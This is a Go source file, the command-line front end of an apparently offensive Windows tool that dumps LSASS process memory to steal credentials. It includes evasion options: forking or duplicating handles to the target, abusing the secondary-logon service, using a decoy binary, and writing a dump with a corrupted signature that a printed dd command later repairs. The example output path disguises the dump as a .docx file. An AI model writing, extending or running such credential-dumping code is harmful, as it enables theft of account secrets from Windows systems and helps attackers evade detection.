//go:build windows

package main

import (
	"fmt"
	"os"

	"github.com/sirupsen/logrus"
	"github.com/spf13/cobra"

	"github.com/picodump/picodump"
)

func main() {
	if err := newRootCommand().Execute(); err != nil {
		os.Exit(1)
	}
}

func newRootCommand() *cobra.Command {
	var (
		opts   picodump.Options
		pid    uint32
		getPID bool
		debug  bool
	)
	cmd := &cobra.Command{
		Use:          `picodump [--getpid] --write C:\Windows\Temp\doc.docx [--valid] [--fork] [--dup] [--malseclogon] [--binary C:\Windows\notepad.exe]`,
		Short:        "Write a minidump of the credential host without the OS dump API",
		SilenceUsage: true,
		RunE: func(cmd *cobra.Command, args []string) error {
			logger := logrus.New()
			logger.SetFormatter(&logrus.TextFormatter{DisableTimestamp: true})
			if debug {
				logger.SetLevel(logrus.DebugLevel)
			}
			opts.Log = logrus.NewEntry(logger)
			opts.PID = pid

			if getPID {
				if pid == 0 {
					var err error
					if pid, err = picodump.FindTargetPID(); err != nil {
						return err
					}
				}
				fmt.Printf("LSASS PID: %d\n", pid)
				return nil
			}
			if err := opts.Validate(); err != nil {
				return err
			}
			if err := picodump.Dump(opts); err != nil {
				return err
			}
			printOutcome(&opts)
			return nil
		},
	}

	fl := cmd.Flags()
	fl.StringVarP(&opts.Path, "write", "w", "", "full path to the dumpfile")
	fl.Uint32VarP(&pid, "pid", "p", 0, "target PID, skipping discovery by name")
	fl.BoolVar(&getPID, "getpid", false, "print the PID of LSASS and leave")
	fl.BoolVarP(&opts.ValidSignature, "valid", "v", false, "create a dump with a valid signature")
	fl.BoolVarP(&opts.Fork, "fork", "f", false, "fork the target process before dumping")
	fl.BoolVarP(&opts.DupHandle, "dup", "d", false, "duplicate an existing handle to the target")
	fl.BoolVarP(&opts.MalSecLogon, "malseclogon", "m", false, "obtain a handle by abusing the secondary-logon service")
	fl.StringVarP(&opts.DecoyBinary, "binary", "b", "", "full path to the decoy binary used with --dup and --malseclogon")
	fl.BoolVar(&opts.Stage2, "stage2", false, "run as stage 2 of the secondary-logon strategy")
	fl.BoolVar(&debug, "debug", false, "enable debug diagnostics")
	return cmd
}

func printOutcome(opts *picodump.Options) {
	if opts.Stage2 {
		return
	}
	if opts.MalSecLogon && !opts.DupHandle {
		fmt.Printf("Stage 2 spawned, the dump will appear at %s\n", opts.Path)
		return
	}
	if !opts.ValidSignature {
		fmt.Printf("The minidump has an invalid signature, restore it running:\nbash -c 'printf \"\\x4d\\x44\\x4d\\x50\\x93\\xa7\\x00\\x00\" | dd of=%s bs=1 seek=0 count=8 conv=notrunc'\n", opts.Path)
	}
	fmt.Printf("Done, the dump can be found at %s\n", opts.Path)
}
